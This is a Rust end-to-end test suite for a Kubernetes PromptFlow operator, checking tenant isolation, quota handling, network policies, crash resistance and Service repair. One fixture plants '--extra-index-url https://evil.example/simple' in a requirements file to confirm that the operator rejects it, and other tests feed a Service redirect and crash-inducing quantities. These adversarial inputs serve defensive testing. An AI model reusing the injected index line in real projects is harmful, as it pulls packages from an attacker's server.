//! A shared namespace as tenants use it: objects that already carry a runtime's names are never
//! taken over, repointed or deleted through the operator — a user's Service, a pod made to look
//! like the operator's (its labels copied), a pod without them.

use std::time::Duration;

use k8s_openapi::api::core::v1::{Pod, ResourceQuota, Service};
use kube::ResourceExt;
use kube::api::{DeleteParams, Patch, PatchParams};
use promptflow_operator::api::PromptFlowRuntime;
use serde_json::json;

use crate::harness::{self, OperatorProcess, TestNamespace, with_namespace};
use crate::runtime::{create, create_runtime, events_for, wait_status};

async fn squatter_pod(ns: &TestNamespace, name: &str, labels: serde_json::Value) -> Pod {
    create(
        &ns.api::<Pod>(),
        json!({
            "metadata": {"name": name, "labels": labels},
            "spec": {"containers": [{"name": "app", "image": "registry.k8s.io/pause:3.10"}]},
        }),
    )
    .await
}

fn owners(meta: &kube::api::ObjectMeta) -> usize {
    meta.owner_references.as_ref().map_or(0, Vec::len)
}

#[tokio::test]
async fn names_taken_by_other_objects_are_reported_never_taken_over() {
    with_namespace("pf-tenancy", |ns| async move {
        let _operator = OperatorProcess::for_namespace(&ns.name);
        // A user's headless Service for a database, and two pods squatting runtime pod names:
        // one with the operator's labels copied, one without.
        let db = create(
            &ns.api::<Service>(),
            json!({"metadata": {"name": "db"}, "spec": {"clusterIP": "None", "selector": {"app": "my-db"},
                "ports": [{"name": "pg", "port": 5432}]}}),
        )
        .await;
        let mimic = squatter_pod(
            &ns,
            "mimic-runtime",
            json!({"promptflow.dev/runtime": "mimic", "app.kubernetes.io/name": "promptflow-runtime",
                "app.kubernetes.io/managed-by": "promptflow-operator"}),
        )
        .await;
        let bare = squatter_pod(&ns, "bare-runtime", json!({"app": "mine"})).await;
        for name in ["db", "mimic", "bare"] {
            create_runtime(&ns, name, json!({})).await;
        }
        let conflicted = wait_status(&ns, "db", "Not available", Some("ServiceConflict")).await;
        let conflicted = conflicted.status.unwrap();
        let message = conflicted.message.clone().unwrap_or_default();
        assert!(message.contains("Service db"), "{message}");
        // No URL names the user's Service, and no pod was made behind it.
        assert_eq!(conflicted.url, None, "the URL of a runtime whose Service name is taken");
        assert!(
            ns.api::<Pod>().get_opt("db-runtime").await.unwrap().is_none(),
            "a pod was made for a runtime whose Service name is taken"
        );
        for name in ["mimic", "bare"] {
            let runtime = wait_status(&ns, name, "Not available", Some("PodConflict")).await;
            let message = runtime.status.unwrap().message.unwrap_or_default();
            assert!(message.contains(&format!("pod {name}-runtime")), "{message}");
        }
        let warnings = events_for(&ns, "db").await;
        assert!(
            warnings.iter().any(|(kind, reason, note)| kind == "Warning"
                && reason == "ServiceConflict"
                && note.contains("Service db")),
            "{warnings:?}"
        );

        // Untouched: the Service keeps its selector, port and (no) owner; the pods their uids.
        let service = ns.api::<Service>().get("db").await.unwrap();
        assert_eq!((service.uid(), owners(&service.metadata)), (db.uid(), 0));
        let spec = service.spec.unwrap();
        assert_eq!(spec.selector.unwrap()["app"], "my-db");
        assert_eq!(spec.ports.unwrap().iter().map(|p| p.port).collect::<Vec<_>>(), [5432]);
        for pod in [&mimic, &bare] {
            let live = ns.api::<Pod>().get(&pod.name_any()).await.unwrap();
            assert_eq!(
                (live.uid(), owners(&live.metadata)),
                (pod.uid(), 0),
                "{}",
                pod.name_any()
            );
        }

        // Deleting the runtime deletes nothing of the user's.
        let runtimes = ns.api::<PromptFlowRuntime>();
        let db_runtime = runtimes.get("db").await.unwrap();
        runtimes.delete("db", &DeleteParams::default()).await.unwrap();
        harness::wait_deleted(&runtimes, "db", &db_runtime.uid().unwrap(), Duration::from_secs(30)).await;
        tokio::time::sleep(Duration::from_secs(3)).await;
        assert_eq!(
            ns.api::<Service>().get("db").await.unwrap().uid(),
            db.uid(),
            "the user's Service stays"
        );

        // Once the squatter goes, the runtime takes its name (it looks again every 60 s).
        ns.api::<Pod>()
            .delete("bare-runtime", &DeleteParams::default().grace_period(0))
            .await
            .unwrap();
        harness::wait_deleted(
            &ns.api::<Pod>(),
            "bare-runtime",
            &bare.uid().unwrap(),
            Duration::from_secs(30),
        )
        .await;
        let running = harness::wait_for(
            &runtimes,
            "bare",
            |rt: Option<&PromptFlowRuntime>| {
                rt.and_then(|rt| rt.status.as_ref())
                    .is_some_and(|s| s.reason.as_deref() == Some("PodReady"))
            },
            Duration::from_secs(90),
        )
        .await;
        assert!(running.status.is_some());
        let own = ns.api::<Pod>().get("bare-runtime").await.unwrap();
        assert_eq!(owners(&own.metadata), 1, "its own pod now");
    })
    .await;
}

#[tokio::test]
async fn a_legacy_dockercfg_pull_secret_pulls_and_checks_versions() {
    with_namespace("pf-tenancy-cfg", |ns| async move {
        let registry = crate::registry::LocalRegistry::read();
        let _operator = crate::versions::operator(&ns, &registry);
        registry
            .identity_of_type(&ns, &registry.password, "kubernetes.io/dockercfg")
            .await;
        let repository = format!("{}/legacy/{}", registry.host, ns.name);
        registry.push(&repository, "20240501.v1").await;
        create_runtime(&ns, "chat", crate::versions::spec(&repository)).await;
        let running = wait_status(&ns, "chat", "Running", None).await;
        let status = running.status.unwrap();
        assert_eq!(
            status.version.as_deref(),
            Some("20240501.v1"),
            "pinned through the legacy secret's login"
        );
        let identity = status
            .conditions
            .iter()
            .find(|c| c.type_ == "IdentityResolved")
            .unwrap();
        assert_eq!(identity.status, "True", "{identity:?}");
        let pod = ns.api::<Pod>().get("chat-runtime").await.unwrap();
        let secrets: Vec<String> = pod
            .spec
            .unwrap()
            .image_pull_secrets
            .unwrap()
            .into_iter()
            .map(|s| s.name)
            .collect();
        assert_eq!(secrets, ["regcred"]);
    })
    .await;
}

#[tokio::test]
async fn a_pod_squatting_a_compute_instances_name_is_reported_never_taken_over() {
    use promptflow_operator::api::InstanceState;
    with_namespace("pf-tenancy-ci", |ns| async move {
        let _operator = OperatorProcess::for_namespace(&ns.name);
        let squat = squatter_pod(
            &ns,
            "ci-instance",
            json!({"promptflow.dev/compute-instance": "ci", "app.kubernetes.io/managed-by": "promptflow-operator",
                "app.kubernetes.io/name": "promptflow-compute-instance"}),
        )
        .await;
        crate::instance::create_instance(&ns, "ci", json!({})).await;
        let failed = crate::instance::wait_state(&ns, "ci", InstanceState::Failed, Some("PodConflict")).await;
        let message = failed.status.unwrap().message.unwrap_or_default();
        assert!(
            message.contains("pod ci-instance") && message.contains("ComputeInstance"),
            "{message}"
        );
        tokio::time::sleep(Duration::from_secs(3)).await;
        let live = ns.api::<Pod>().get("ci-instance").await.unwrap();
        assert_eq!((live.uid(), owners(&live.metadata)), (squat.uid(), 0), "left untouched");
        assert!(live.metadata.deletion_timestamp.is_none(), "not deleted");
    })
    .await;
}

#[tokio::test]
async fn quotas_scoped_to_other_pods_do_not_hold_runtimes_back() {
    use k8s_openapi::api::core::v1::ResourceQuota;
    with_namespace("pf-tenancy-quota", |ns| async move {
        let _operator = OperatorProcess::for_namespace(&ns.name);
        // The Kubernetes docs' examples: no pod with cross-namespace affinity, no pod of
        // priority class "high"; runtime pods are neither.
        for (name, expression) in [
            (
                "no-cross-ns-affinity",
                json!({"scopeName": "CrossNamespacePodAffinity", "operator": "Exists"}),
            ),
            (
                "no-high-priority",
                json!({"scopeName": "PriorityClass", "operator": "In", "values": ["high"]}),
            ),
        ] {
            create(
                &ns.api::<ResourceQuota>(),
                json!({"metadata": {"name": name}, "spec": {"hard": {"pods": "0"},
                    "scopeSelector": {"matchExpressions": [expression]}}}),
            )
            .await;
        }
        harness::wait_for(
            &ns.api::<ResourceQuota>(),
            "no-high-priority",
            |q: Option<&ResourceQuota>| q.and_then(|q| q.status.as_ref()?.hard.as_ref()).is_some(),
            Duration::from_secs(30),
        )
        .await;
        create_runtime(&ns, "chat", json!({})).await;
        let running = wait_status(&ns, "chat", "Running", None).await;
        assert_eq!(running.status.unwrap().reason.as_deref(), Some("PodReady"));
    })
    .await;
}

#[tokio::test]
async fn flow_requirements_come_only_from_the_administrators_index_within_a_disk_budget() {
    with_namespace("pf-requirements", |ns| async move {
        let index = "https://pypi.mirror.example/simple";
        let _operator = OperatorProcess::start(
            &harness::kubeconfig(),
            &[
                "--watch-namespace",
                &ns.name,
                "--pip-index-url",
                index,
                "--packages-size-limit",
                "3Gi",
            ],
        );
        let flow = |name: &str, requirements: &str| {
            json!({"metadata": {"name": name}, "data": {
                "flow.dag.yaml": "environment:\n  python_requirements_txt: requirements.txt\n",
                "requirements.txt": requirements}})
        };
        let config_maps = ns.api::<k8s_openapi::api::core::v1::ConfigMap>();
        create(
            &config_maps,
            flow(
                "own-index",
                "requests==2.32.3\n# our mirror\n--extra-index-url https://evil.example/simple\n",
            ),
        )
        .await;
        create(&config_maps, flow("plain", "requests==2.32.3\n")).await;
        create_runtime(&ns, "own-index", json!({"flow": {"configMapName": "own-index"}})).await;
        create_runtime(&ns, "plain", json!({"flow": {"configMapName": "plain"}})).await;

        // A file naming its own index is refused, naming the line; no pod is made for it.
        let refused = wait_status(&ns, "own-index", "Not available", Some("FlowInvalid")).await;
        let message = refused.status.unwrap().message.unwrap_or_default();
        assert!(
            message.contains("requirements.txt line 3: --extra-index-url"),
            "{message}"
        );
        assert!(ns.api::<Pod>().get_opt("own-index-runtime").await.unwrap().is_none());
        let events = events_for(&ns, "own-index").await;
        assert!(
            events
                .iter()
                .any(|(kind, reason, note)| kind == "Warning" && reason == "FlowInvalid" && note.contains("line 3")),
            "{events:?}"
        );

        // Every install uses the administrator's index; the packages volume and every container
        // have a disk budget (the runtime's from the catalog's size).
        wait_status(&ns, "plain", "Running", None).await;
        let pod = ns.api::<Pod>().get("plain-runtime").await.unwrap();
        let spec = pod.spec.unwrap();
        let installer = &spec.init_containers.as_ref().unwrap()[0];
        let env = installer.env.as_ref().unwrap();
        assert!(
            env.iter()
                .any(|e| e.name == "PIP_INDEX_URL" && e.value.as_deref() == Some(index)),
            "{env:?}"
        );
        let volume = spec
            .volumes
            .as_ref()
            .unwrap()
            .iter()
            .find(|v| v.name == "packages")
            .unwrap();
        assert_eq!(
            volume
                .empty_dir
                .as_ref()
                .unwrap()
                .size_limit
                .as_ref()
                .map(|q| q.0.as_str()),
            Some("3Gi")
        );
        for container in spec.containers.iter().chain(spec.init_containers.iter().flatten()) {
            let resources = container.resources.as_ref().unwrap();
            for list in [&resources.requests, &resources.limits] {
                assert!(
                    list.as_ref().unwrap().contains_key("ephemeral-storage"),
                    "{} has no ephemeral-storage budget",
                    container.name
                );
            }
        }
        let runtime = &spec.containers[0].resources.as_ref().unwrap().limits.as_ref().unwrap()["ephemeral-storage"];
        assert_eq!(runtime.0, "16Gi", "Standard_D2s_v3's ephemeralStorage");

        // Fixing the file brings the runtime up.
        let fixed = json!({"data": {"requirements.txt": "requests==2.32.3\n"}});
        config_maps
            .patch(
                "own-index",
                &kube::api::PatchParams::default(),
                &kube::api::Patch::Merge(fixed),
            )
            .await
            .unwrap();
        wait_status(&ns, "own-index", "Running", None).await;
    })
    .await;
}

#[tokio::test]
async fn the_runtime_network_policy_lives_while_the_namespace_has_runtimes_and_never_takes_over() {
    with_namespace("pf-netpol", |ns| async move {
        with_namespace("pf-netpol-foreign", |foreign| {
            the_runtime_network_policy_in(ns, foreign)
        })
        .await;
    })
    .await;
}

async fn the_runtime_network_policy_in(ns: TestNamespace, foreign: TestNamespace) {
    use k8s_openapi::api::networking::v1::NetworkPolicy;
    {
        let args = [
            "--runtime-network-policy=true",
            "--operator-pod-labels=app.kubernetes.io/name=promptflow-operator,app.kubernetes.io/instance=pf",
        ];
        let _operator = OperatorProcess::start(
            &harness::kubeconfig(),
            &[&["--watch-namespace", &ns.name][..], &args[..]].concat(),
        );
        let _foreign_operator = OperatorProcess::start(
            &harness::kubeconfig(),
            &[&["--watch-namespace", &foreign.name][..], &args[..]].concat(),
        );

        // The first runtime brings the policy; the API server accepts it as the operator wrote it.
        create_runtime(&ns, "chat", json!({})).await;
        create_runtime(&ns, "chat2", json!({})).await;
        wait_status(&ns, "chat", "Running", None).await;
        let policies = ns.api::<NetworkPolicy>();
        let policy = policies.get("promptflow-runtimes").await.unwrap();
        let spec = policy.spec.clone().unwrap();
        let rules = spec.ingress.unwrap();
        let port = |rule: &k8s_openapi::api::networking::v1::NetworkPolicyIngressRule, i: usize| {
            rule.ports.as_ref().unwrap()[i].port.clone()
        };
        use k8s_openapi::apimachinery::pkg::util::intstr::IntOrString::Int;
        assert_eq!(
            (port(&rules[0], 0), port(&rules[1], 0)),
            (Some(Int(8081)), Some(Int(8082)))
        );
        assert!(rules[0].from.is_some() && rules[1].from.is_some());
        // Its selector picks the runtime pods, not the user's.
        let selector = spec.pod_selector.unwrap();
        let expressions = selector.match_expressions.unwrap();
        let selector = expressions
            .iter()
            .map(|e| format!("{} in ({})", e.key, e.values.clone().unwrap().join(",")))
            .collect::<Vec<_>>()
            .join(",");
        let selected = ns
            .api::<Pod>()
            .list(&kube::api::ListParams::default().labels(&selector))
            .await
            .unwrap();
        let mut names: Vec<_> = selected.items.iter().map(|p| p.name_any()).collect();
        names.sort();
        assert_eq!(names, ["chat-runtime", "chat2-runtime"]);

        // A NetworkPolicy of that name someone else made is never touched: the runtime says so.
        let theirs = create(
            &foreign.api::<NetworkPolicy>(),
            json!({"metadata": {"name": "promptflow-runtimes"}, "spec": {"podSelector": {}, "policyTypes": ["Ingress"]}}),
        )
        .await;
        create_runtime(&foreign, "chat", json!({})).await;
        let conflicted = wait_status(&foreign, "chat", "Not available", Some("NetworkPolicyConflict")).await;
        let message = conflicted.status.unwrap().message.unwrap_or_default();
        assert!(
            message.contains("promptflow-runtimes") && message.contains("not made by the operator"),
            "{message}"
        );
        let kept = foreign.api::<NetworkPolicy>().get("promptflow-runtimes").await.unwrap();
        assert_eq!(
            (kept.uid(), kept.resource_version()),
            (theirs.uid(), theirs.resource_version())
        );

        // One runtime left: the policy stays; none left: it goes.
        let runtimes = ns.api::<PromptFlowRuntime>();
        runtimes.delete("chat", &DeleteParams::background()).await.unwrap();
        tokio::time::sleep(Duration::from_secs(3)).await;
        assert!(policies.get_opt("promptflow-runtimes").await.unwrap().is_some());
        runtimes.delete("chat2", &DeleteParams::background()).await.unwrap();
        harness::wait_deleted(
            &policies,
            "promptflow-runtimes",
            &policy.uid().unwrap(),
            Duration::from_secs(30),
        )
        .await;
        // And the foreign runtime's delete leaves the foreign policy.
        foreign
            .api::<PromptFlowRuntime>()
            .delete("chat", &DeleteParams::background())
            .await
            .unwrap();
        tokio::time::sleep(Duration::from_secs(3)).await;
        assert!(
            foreign
                .api::<NetworkPolicy>()
                .get_opt("promptflow-runtimes")
                .await
                .unwrap()
                .is_some()
        );
    }
}

#[tokio::test]
async fn a_size_beyond_any_cluster_is_over_quota_and_the_operator_stays_up() {
    with_namespace("pf-huge", |ns| async move {
        let mut operator = OperatorProcess::for_namespace(&ns.name);
        create(
            &ns.api::<k8s_openapi::api::core::v1::ResourceQuota>(),
            json!({"metadata": {"name": "team"}, "spec": {"hard": {"requests.cpu": "64", "limits.memory": "512Gi"}}}),
        )
        .await;
        // Accepted by the API server as quantities; 1e26 cores overflowed the operator's decimal
        // arithmetic (a panic that took the process down, and again after every restart).
        for (name, resources) in [
            ("cores", json!({"requests": {"cpu": "1e26"}})),
            (
                "memory",
                json!({"limits": {"memory": "99999999999999999999999999999Ei"}}),
            ),
        ] {
            create_runtime(&ns, name, json!({"compute": {"serverless": {"resources": resources}}})).await;
        }
        for name in ["cores", "memory"] {
            let runtime = wait_status(&ns, name, "Not available", Some("QuotaExceeded")).await;
            let message = runtime.status.unwrap().message.unwrap_or_default();
            assert!(message.contains("ResourceQuota team"), "{message}");
        }
        create_runtime(&ns, "fine", json!({})).await;
        wait_status(&ns, "fine", "Running", None).await;
        assert!(
            operator.try_exit_code().is_none(),
            "the operator exited:\n{}",
            operator.log_text()
        );
        assert!(!operator.log_text().contains("panicked"), "{}", operator.log_text());
    })
    .await;
}

/// The operator's gauge of one of its in-memory maps.
fn entries(metrics: &str, map: &str) -> i64 {
    let prefix = format!("promptflow_operator_memory_entries{{map=\"{map}\"}} ");
    metrics
        .lines()
        .find_map(|l| l.strip_prefix(&prefix))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or_else(|| panic!("no {map} gauge in\n{metrics}"))
}

#[tokio::test]
async fn the_operators_maps_return_to_the_live_objects_after_churn() {
    with_namespace("pf-churn", |ns| async move {
        let registry = crate::registry::LocalRegistry::read();
        registry.identity(&ns, &registry.password).await;
        let operator = OperatorProcess::start(
            &harness::kubeconfig(),
            &["--watch-namespace", &ns.name, "--registry-ca-file", &registry.ca_file, "--version-check-interval", "5s"],
        );
        let puller = json!({"serviceAccountName": "puller"});
        create_runtime(&ns, "stay", json!({"image": {"repository": registry.repository}, "identity": puller})).await;
        wait_status(&ns, "stay", "Running", None).await;
        let pid = operator.pid().unwrap();
        let (rss_before, _) = crate::proxy::usage(pid);

        // Three rounds: 40 runtimes, each of its own repository (an answer and a press each),
        // pressed, then deleted.
        let runtimes = ns.api::<PromptFlowRuntime>();
        let mut peak = 0;
        for round in 0..3 {
            let names: Vec<String> = (0..40).map(|i| format!("c{round}-{i}")).collect();
            for name in &names {
                let repository = format!("{}/churn/{name}", registry.host);
                create_runtime(&ns, name, json!({"image": {"repository": repository}, "identity": puller})).await;
            }
            for name in &names {
                let press = json!({"metadata": {"annotations": {"promptflow.dev/check-version": format!("{round}")}}});
                runtimes
                    .patch(name, &kube::api::PatchParams::default(), &kube::api::Patch::Merge(press))
                    .await
                    .unwrap();
            }
            let deadline = tokio::time::Instant::now() + Duration::from_secs(60);
            loop {
                let metrics = operator.metrics().await;
                let answers = entries(&metrics, "version_answers");
                peak = peak.max(answers);
                if answers >= 41 && entries(&metrics, "dependency_index") >= 41 {
                    break;
                }
                assert!(tokio::time::Instant::now() < deadline, "round {round} never asked:\n{metrics}");
                tokio::time::sleep(Duration::from_millis(500)).await;
            }
            for name in &names {
                runtimes.delete(name, &DeleteParams::background()).await.unwrap();
            }
        }
        let (rss_peak, _) = crate::proxy::usage(pid);

        // Every map follows the live objects again: one runtime, one repository, no press.
        let deadline = tokio::time::Instant::now() + Duration::from_secs(90);
        let metrics = loop {
            let metrics = operator.metrics().await;
            let settled = entries(&metrics, "version_answers") == 1
                && entries(&metrics, "version_presses") == 0
                && entries(&metrics, "dependency_index") == 1
                && entries(&metrics, "failure_backoff") == 0
                && entries(&metrics, "own_writes") <= 1;
            if settled {
                break metrics;
            }
            assert!(tokio::time::Instant::now() < deadline, "the maps kept the deleted runtimes:\n{metrics}");
            tokio::time::sleep(Duration::from_secs(1)).await;
        };
        let (rss_after, _) = crate::proxy::usage(pid);
        eprintln!(
            "churn: {peak} version answers at the peak; operator RSS {rss_before} KiB before, {rss_peak} KiB after 120 runtimes, {rss_after} KiB settled; maps: {}",
            metrics.lines().filter(|l| l.starts_with("promptflow_operator_memory_entries{")).collect::<Vec<_>>().join(", ")
        );
        assert!(peak >= 41, "the churn reached the version cache");
    })
    .await;
}

/// A runtime's Service edited by someone else: switched to `ExternalName` (DNS would send the
/// runtime's clients elsewhere), it is put back; labelled or given another port, the user's
/// additions stay and the operator does not write it again and again.
#[tokio::test]
async fn a_runtimes_service_edited_by_others_is_repaired_once_and_left_in_peace() {
    use kube::api::{Patch, PatchParams};
    with_namespace("pf-svc-edits", |ns| async move {
        let operator = OperatorProcess::for_namespace(&ns.name);
        create_runtime(&ns, "chat", json!({})).await;
        wait_status(&ns, "chat", "Running", None).await;
        let services = ns.api::<Service>();
        let user = PatchParams::apply("e2e-user").force();

        let away = json!({"apiVersion": "v1", "kind": "Service",
            "spec": {"type": "ExternalName", "externalName": "elsewhere.example.com"}});
        services
            .patch("chat", &PatchParams::default(), &Patch::Merge(&away))
            .await
            .unwrap();
        let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
        loop {
            let spec = services.get("chat").await.unwrap().spec.unwrap();
            // (The other manager's externalName may stay: the API server ignores it for ClusterIP.)
            if spec.type_.as_deref() == Some("ClusterIP") && spec.cluster_ip.as_deref() == Some("None") {
                break;
            }
            assert!(
                tokio::time::Instant::now() < deadline,
                "the Service stays {:?} {:?}",
                spec.type_,
                spec.external_name
            );
            tokio::time::sleep(Duration::from_millis(200)).await;
        }

        // Another team's label and port: theirs to keep; the operator writes at most once more.
        let theirs = json!({"apiVersion": "v1", "kind": "Service", "metadata": {"labels": {"team": "a"}},
            "spec": {"ports": [{"name": "metrics", "port": 9100, "protocol": "TCP"}]}});
        services.patch("chat", &user, &Patch::Apply(&theirs)).await.unwrap();
        let before = operator.requests("write", "services").await;
        // Past the operator's trust in its own last write (30 s), every reconcile compares again.
        tokio::time::sleep(Duration::from_secs(32)).await;
        let runtimes = ns.api::<PromptFlowRuntime>();
        for round in 0..3 {
            let mark = operator.log_text().len();
            let touch = json!({"metadata": {"annotations": {"e2e.promptflow.dev/touched": round.to_string()}}});
            runtimes
                .patch("chat", &PatchParams::default(), &Patch::Merge(touch))
                .await
                .unwrap();
            operator
                .wait_reconciled(mark, &["chat".to_owned()], "phase=Running", 1, Duration::from_secs(30))
                .await;
        }
        let service = services.get("chat").await.unwrap();
        assert_eq!(service.labels().get("team").map(String::as_str), Some("a"));
        assert_eq!(service.spec.unwrap().ports.unwrap().len(), 2, "their port stays");
        let again = operator.requests("write", "services").await - before;
        assert!(
            again <= 1,
            "the operator wrote the Service {again} times for others' additions"
        );
    })
    .await;
}

/// `status.url` never names a Service that is not there: a stopped runtime whose Service is
/// deleted and cannot be made again (no Service may be made in the namespace) loses its URL.
#[tokio::test]
async fn a_stopped_runtime_whose_service_cannot_be_made_again_reports_no_url() {
    with_namespace("pf-tenancy", |ns| async move {
        let _operator = OperatorProcess::for_namespace(&ns.name);
        create_runtime(&ns, "held", json!({})).await;
        let running = wait_status(&ns, "held", "Running", None).await;
        assert!(running.status.and_then(|s| s.url).is_some(), "a running runtime's URL");
        let runtimes = ns.api::<PromptFlowRuntime>();
        let stop = json!({"metadata": {"annotations": {"promptflow.dev/stop": "1"}}});
        runtimes
            .patch("held", &PatchParams::default(), &Patch::Merge(stop))
            .await
            .unwrap();
        let stopped = wait_status(&ns, "held", "Not available", Some("StoppedByUser")).await;
        assert!(
            stopped.status.and_then(|s| s.url).is_some(),
            "a stopped runtime keeps its Service and URL"
        );
        create(
            &ns.api::<ResourceQuota>(),
            json!({"metadata": {"name": "no-services"}, "spec": {"hard": {"services": "0"}}}),
        )
        .await;
        // The quota counts once its controller has reported it (then admission enforces it).
        harness::wait_for(
            &ns.api::<ResourceQuota>(),
            "no-services",
            |quota: Option<&ResourceQuota>| {
                quota
                    .and_then(|q| q.status.as_ref())
                    .and_then(|s| s.hard.as_ref())
                    .is_some_and(|hard| hard.contains_key("services"))
            },
            Duration::from_secs(30),
        )
        .await;
        ns.api::<Service>()
            .delete("held", &DeleteParams::default())
            .await
            .unwrap();
        let without = harness::wait_for(
            &runtimes,
            "held",
            |rt: Option<&PromptFlowRuntime>| rt.and_then(|rt| rt.status.as_ref()).is_some_and(|s| s.url.is_none()),
            Duration::from_secs(30),
        )
        .await;
        assert_eq!(
            without.status.and_then(|s| s.reason).as_deref(),
            Some("StoppedByUser"),
            "still stopped, as the user left it"
        );
        assert!(
            ns.api::<Service>().get_opt("held").await.unwrap().is_none(),
            "the quota let a Service be made"
        );
    })
    .await;
}
